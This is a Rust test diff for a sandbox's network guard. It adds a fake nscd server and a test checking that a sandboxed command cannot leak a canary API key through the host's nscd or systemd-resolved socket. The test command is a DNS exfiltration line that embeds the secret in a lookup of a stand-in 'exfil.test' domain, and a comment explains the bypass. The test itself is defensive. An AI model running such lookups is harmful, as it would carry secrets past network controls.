@@ -76,3 +76,106 @@ fn the_canary_trips_on_a_token_sent_upstream_in_short_pieces() {
         show(&out)
     );
 }
+
+/// nscd's hosts cache as far as glibc's client needs it: each GETAI (getaddrinfo) or
+/// GETHOSTBYNAME question is resolved by asking RESOLVER from the host, as nscd does, then
+/// answered "not found". Arguments: SOCKET RESOLVER.
+const FAKE_NSCD: &str = r#"
+import os, socket, struct, sys
+path, resolver = sys.argv[1], sys.argv[2]
+srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+srv.bind(path)
+os.chmod(path, 0o666)
+srv.listen(16)
+def ask(name):
+    wire = b''.join(bytes([len(l)]) + l.encode() for l in name.rstrip('.').split('.')) + b'\0'
+    q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + wire + struct.pack('>HH', 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    s.sendto(q, (resolver, 53))
+    try:
+        s.recv(512)
+    except OSError:
+        pass
+while True:
+    c, _ = srv.accept()
+    try:
+        version, kind, keylen = struct.unpack('=iii', c.recv(12, socket.MSG_WAITALL))
+        key = c.recv(keylen, socket.MSG_WAITALL).rstrip(b'\0').decode()
+        print('asked', kind, key, flush=True)
+        if kind in (4, 5, 14):  # GETHOSTBYNAME, GETHOSTBYNAMEv6, GETAI
+            ask(key)
+            c.sendall(struct.pack('=6i', 2, 0, 0, 0, 0, 1) if kind == 14
+                      else struct.pack('=8i', 2, 0, 0, 0, 0, 0, 0, 1))
+    except Exception as e:
+        print('error', e, flush=True)
+    c.close()
+"#;
+
+/// The README says CMD's names resolve only through the guard, so DNS cannot carry data
+/// out. But glibc asks nscd's hosts cache (`/run/nscd/socket`) before resolv.conf's server,
+/// and nscd resolves from the host's namespace, past the fence: on a host running nscd
+/// (or systemd-resolved with nss-resolve, whose varlink socket glibc asks instead of
+/// resolv.conf), an ordinary `getent ahosts TOKEN.exfil.test` in CMD carries the token to
+/// the host's resolver, and the canary, which hears only the guard and pasta's capture,
+/// says "the canary's token was in no DNS question". `check` warns about these resolvers
+/// for a fenced host; exec said nothing and left their sockets in CMD's mount namespace.
+/// The host's nscd is played by [`FAKE_NSCD`] in the sandbox (exec's host), its socket on
+/// a tmpfs over /run in a mount namespace of the test's own.
+#[test]
+fn cmds_names_do_not_resolve_through_the_hosts_nscd() {
+    use std::process::Command;
+    let w = World::new();
+    let policy = setup(&w);
+    let nscd = w.write_file("fake_nscd.py", FAKE_NSCD);
+    std::fs::create_dir(w.dir().join("run")).expect("a directory for the host's /run");
+    let inner = exec_command(
+        &w,
+        &policy,
+        &["--user", "nobody", "--canary"],
+        "getent ahosts \"$CANARY_API_KEY.exfil.test\" >/dev/null; echo \"getent=$?\"; exit 0",
+    );
+    // The host's /run kept only for /run/netns (exec names its namespace there, and the
+    // world's sandbox is named there), with a /run/nscd of the test's own.
+    let outer = format!(
+        r#"set -e
+mount --rbind /run "$D/run"
+mount -t tmpfs tmpfs /run
+mkdir /run/netns /run/nscd
+mount --rbind "$D/run/netns" /run/netns
+ip netns exec "$SB" python3 "$NSCD" /run/nscd/socket {DNS_V4} > "$D/nscd.log" 2>&1 &
+trap "kill $!" EXIT
+for i in $(seq 100); do test -S /run/nscd/socket && break; sleep 0.05; done
+test -S /run/nscd/socket
+set +e
+"$@""#
+    );
+    let mut cmd = Command::new("unshare");
+    cmd.args(["-m", "--propagation", "private", "sh", "-c", &outer, "sh"])
+        .arg(inner.get_program())
+        .args(inner.get_args())
+        .env("D", w.dir())
+        .env("SB", w.sandbox_name())
+        .env("NSCD", &nscd)
+        .stdin(std::process::Stdio::null());
+    for (key, value) in inner.get_envs() {
+        match value {
+            Some(value) => cmd.env(key, value),
+            None => cmd.env_remove(key),
+        };
+    }
+    let out = cmd.output().expect("run exec beside a host's nscd");
+    let nscd_log = std::fs::read_to_string(w.dir().join("nscd.log")).unwrap_or_default();
+    let shown = format!("{}\n--- nscd ---\n{nscd_log}", show(&out));
+    assert!(stdout_of(&out).contains("getent="), "{shown}");
+    let leaked: Vec<String> = w
+        .dns_queries()
+        .into_iter()
+        .filter(|n| n.to_ascii_lowercase().starts_with("ck_live_"))
+        .collect();
+    assert!(
+        leaked.is_empty(),
+        "CMD's question left through the host's nscd: {leaked:?}\n{shown}"
+    );
+    assert_eq!(out.status.code(), Some(99), "{shown}");
+}
